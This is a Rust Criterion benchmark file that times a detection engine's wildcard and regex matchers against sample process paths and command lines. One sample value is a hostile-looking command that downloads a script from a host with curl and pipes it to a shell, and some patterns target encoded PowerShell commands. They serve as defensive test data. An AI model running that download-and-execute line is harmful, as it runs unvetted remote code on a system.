//! Criterion benchmarks of the engine's per-event kernels: string matchers (wildcards as
//! exact/prefix/suffix/contains/glob, Lucene regexes, case-insensitive forms), selective
//! decoding of one realistic document, and the rule prefilter plus evaluation over a
//! program of many rules.
//!
//! `cargo bench -p shrike-engine --bench kernels`

use criterion::{black_box, criterion_group, criterion_main, Criterion, Throughput};
use shrike_engine::matcher::Matcher;

/// Values shaped like what Elastic's rules test: executables, command lines, names.
const VALUES: &[&str] = &[
    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --field-trial-handle=1234,i,5678 --lang=en-US --renderer-client-id=7 /prefetch:1",
    "/usr/bin/python3 /opt/app/manage.py runserver 0.0.0.0:8000",
    "svchost.exe",
    "C:\\Users\\alice\\AppData\\Local\\Temp\\setup_x64.EXE",
    "bash -c curl -s http://10.0.0.5/x | sh",
];

fn bench_matchers(c: &mut Criterion) {
    let mut g = c.benchmark_group("matcher");
    g.throughput(Throughput::Elements(VALUES.len() as u64));
    let cases: Vec<(&str, Matcher)> = vec![
        (
            "exact_ci",
            Matcher::wildcard("powershell.exe", true).expect("m"),
        ),
        (
            "suffix_ci",
            Matcher::wildcard("*\\powershell.exe", true).expect("m"),
        ),
        (
            "contains_ci",
            Matcher::wildcard("*-encodedcommand*", true).expect("m"),
        ),
        (
            "contains_cs",
            Matcher::wildcard("*/prefetch:*", false).expect("m"),
        ),
        (
            "glob_ci_drive",
            Matcher::wildcard("?:\\Users\\*\\AppData\\*.exe", true).expect("m"),
        ),
        (
            "glob_cs_inner_star",
            Matcher::wildcard("/usr/bin/*python*", false).expect("m"),
        ),
        (
            "regex_ci",
            Matcher::regex(".*\\\\[a-z0-9]{1,3}\\.exe", true).expect("m"),
        ),
    ];
    for (name, m) in &cases {
        g.bench_function(*name, |b| {
            b.iter(|| VALUES.iter().filter(|v| m.is_match(black_box(v))).count())
        });
    }
    g.finish();
}

criterion_group!(benches, bench_matchers);
criterion_main!(benches);
